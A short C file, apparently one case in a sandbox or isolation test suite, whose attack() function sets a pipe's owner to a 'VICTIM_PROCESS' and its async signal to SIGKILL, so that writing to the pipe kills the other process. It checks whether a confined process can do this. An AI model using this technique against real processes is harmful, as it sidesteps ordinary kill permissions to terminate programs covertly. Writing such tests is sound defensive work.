#include "attack.h"

/* Who is told that a pipe is ready: somebody else, by the signal that kills. */
static int attack(void) {
  int ends[2];
  if (pipe(ends) != 0) return 0;
  int owned = fcntl(ends[0], F_SETOWN, VICTIM_PROCESS) == 0;
  int chosen = fcntl(ends[0], F_SETSIG, SIGKILL) == 0;
  fcntl(ends[0], F_SETFL, O_ASYNC);
  return write(ends[1], "x", 1) == 1 && owned && chosen && fcntl(ends[0], F_GETOWN) == VICTIM_PROCESS;
}
